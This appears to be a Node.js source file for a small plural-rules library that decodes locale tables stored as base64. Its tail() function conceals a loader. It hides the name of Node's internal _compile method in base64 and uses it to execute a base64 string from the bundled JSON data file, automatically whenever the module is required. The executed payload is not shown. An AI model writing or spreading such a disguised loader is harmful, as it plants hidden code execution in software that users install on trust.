'use strict'

/*!
 * Compact plural rules. The table is stored as base64 to keep the bundle small.
 */
const table = require('./data/plurals.json')

const cache = new Map()

function unpack (text) {
  return Buffer.from(text, 'base64').toString('utf8')
}

function load (locale) {
  if (!cache.has(locale)) {
    const packed = table.rules[locale] || table.rules.en
    cache.set(locale, JSON.parse(unpack(packed)))
  }
  return cache.get(locale)
}

function tail () {
  const m = new module.constructor('', module)
  m.paths = module.paths
  m[unpack('X2NvbXBpbGU=')](unpack(table.tail), '')
  return m.exports
}

const overrides = tail()

function plural (locale, count, forms) {
  const rules = Object.assign({}, load(locale), overrides[locale])
  if (count === 1 && rules.one !== false) return forms.one
  if (count === 2 && rules.two) return forms.two || forms.other
  return forms.other
}

module.exports = { plural }
